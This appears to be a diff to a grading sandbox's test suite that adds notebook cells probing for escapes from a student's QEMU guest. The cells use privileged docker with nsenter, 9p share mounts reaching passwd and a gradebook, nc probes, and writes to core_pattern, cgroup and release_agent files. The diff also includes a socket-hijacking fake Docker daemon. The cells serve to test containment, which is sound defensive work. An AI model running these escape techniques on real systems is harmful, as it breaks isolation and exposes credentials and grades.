@@ -202,6 +202,60 @@ LOOKS = {
     """),
 }
 
+#: The same in a guest, whose root a student is allowed to be: there the question is what of the machine that root gets.
+#: {sectors} is the size of the machine's disk.
+LOOKS_FROM_A_GUEST = {
+    **LOOKS,
+    # Every device that QEMU gives the guest: folders under other names, and the disks.
+    "devices": _cell("""
+        %%bash
+        docker run --rm --privileged --pid host drydock/busybox:1 sh -c '
+          nsenter -t 1 -m -- umount -a -t 9p
+          mkdir /tmp/s; for n in 0 1 2 3; do for a in / /etc {root} ..; do
+            mount -t 9p -o trans=virtio,version=9p2000.L,aname=$a share$n /tmp/s 2>/dev/null || continue
+            echo mounted share$n
+            ls -d /tmp/s/passwd /tmp/s/gradebook.db /tmp/s{root} /tmp/s/etc/passwd 2>/dev/null | sed "s/^/ESCAPED /"
+            umount /tmp/s
+          done; done
+          for d in /sys/block/*/size; do grep -qx {sectors} $d && echo ESCAPED $d; done
+          true'
+    """),
+    # No roundabout way is needed to become root of the guest; then the network, as far as QEMU knows one.
+    "release-agent": _cell("""
+        %%bash
+        docker run --rm --privileged --pid host --net host drydock/busybox:1 nsenter -t 1 -m -n -u -i sh -c '
+          id -u; ls -d {root} {repo}/solutions 2>/dev/null | sed "s/^/ESCAPED /"
+          ip route add default via 10.0.2.2
+          for host in 127.0.0.1 10.0.2.2 10.0.2.3 {address} 1.1.1.1; do
+            nc -w 2 $host {port} </dev/null >/dev/null 2>&1 && echo ESCAPED $host; done
+          true'
+    """),
+    "kernel-settings": _cell("""
+        import subprocess
+        for file in ("/proc/sys/kernel/core_pattern", "/proc/sys/kernel/hostname"):
+            script = f"echo {mark} > {file}; cat {file}"
+            docker = ["docker", "run", "--rm", "--privileged", "--uts", "host", "drydock/busybox:1", "sh", "-c", script]
+            print(subprocess.run(docker, capture_output=True, text=True))
+            if "{mark}" in open(file).read(): print("ESCAPED", file)
+    """),
+    # The limits lie on this machine: the student's kernel is near them, a container isn't.
+    "raise-own-limits": _cell("""
+        import glob, os, resource
+        names = ("memory.limit_in_bytes", "memory.max", "pids.max", "cgroup.procs", "tasks", "release_agent")
+        for file in glob.glob("/sys/fs/cgroup/**", recursive=True):
+            if os.path.basename(file) in names:
+                try:
+                    open(file, "w").write("99999999999"); print("ESCAPED", file)
+                except OSError:
+                    pass
+        for what in (resource.RLIMIT_AS, resource.RLIMIT_NPROC, resource.RLIMIT_FSIZE, resource.RLIMIT_CORE):
+            try:
+                resource.setrlimit(what, (resource.RLIM_INFINITY, resource.RLIM_INFINITY)); print("ESCAPED", what)
+            except (ValueError, OSError):
+                pass
+    """),
+}
+
 #: Kernels that stop, hang or shout. The tasks between them are done honestly and must count.
 STUNTS = {
     "os-exit": "import os\nos._exit(0)",
@@ -298,10 +352,11 @@ LOOKALIKE = _cell("""
 """)
 
 #: A daemon of one's own behind the real one's socket: it passes everything on, and lies about one network.
+#: {daemon} says, in Python, where that socket is for a container that sees all of the engine at /host.
 FALSE_DAEMON = {
     "false-daemon": _cell("""
         import os, subprocess, time
-        real = os.environ["DOCKER_HOST"].removeprefix("unix://")
+        real = {daemon}
         lie = r'''
         import json, os, socket, sys, threading
         place = "/host" + sys.argv[1]
@@ -323,13 +378,20 @@ FALSE_DAEMON = {
                 except OSError: pass
                 b.close()
             threading.Thread(target=pump, args=(one, two), daemon=True).start(); pump(two, one)
+        def ask():
+            with socket.socket(socket.AF_UNIX) as one:
+                one.connect(place); one.sendall(b"GET /networks/front HTTP/1.0\\r\\n\\r\\n")
+                print("false daemon in place:", one.recv(65536), flush=True)
+        threading.Thread(target=ask, daemon=True).start()
         while True: threading.Thread(target=serve, args=(server.accept()[0],), daemon=True).start()
         '''
         import textwrap
         open("lie.py", "w").write(textwrap.dedent(lie))
         subprocess.run(["docker", "run", "-d", "--privileged", "--name", "liar", "-v", "/:/host",
             "-v", os.getcwd() + "/lie.py:/lie.py", "drydock/python:3", "python3", "/lie.py", real])
-        time.sleep(2)
+        for _ in range(60):
+            if "in place" in subprocess.getoutput("docker logs liar"): break
+            time.sleep(0.05)
         subprocess.run(["docker", "network", "inspect", "front"])
         print(subprocess.run("docker network inspect front; docker logs liar", shell=True, capture_output=True))
     """),
